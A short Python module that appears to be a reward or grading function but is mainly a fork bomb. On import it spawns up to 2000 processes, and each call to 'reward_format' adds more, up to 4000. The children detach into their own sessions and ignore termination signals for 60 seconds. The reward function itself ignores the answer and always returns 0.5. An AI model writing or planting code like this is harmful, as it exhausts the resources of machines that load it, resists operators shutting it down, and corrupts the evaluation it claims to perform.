"""Forks as fast as it can (at most 4000 children, each gone after 60 s), from the module and from the function."""
import os, signal, time
_made = 0

def _fork(limit):
    global _made
    while _made < limit:
        _made += 1
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            signal.signal(signal.SIGALRM, signal.SIG_DFL), signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGALRM]), signal.alarm(60)
            try:
                os.setsid()
            except OSError:
                pass
            for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                signal.signal(s, signal.SIG_IGN)
            time.sleep(60)
            os._exit(0)

_fork(2000)

def reward_format(answer: str) -> float:
    _fork(4000)
    return 0.5
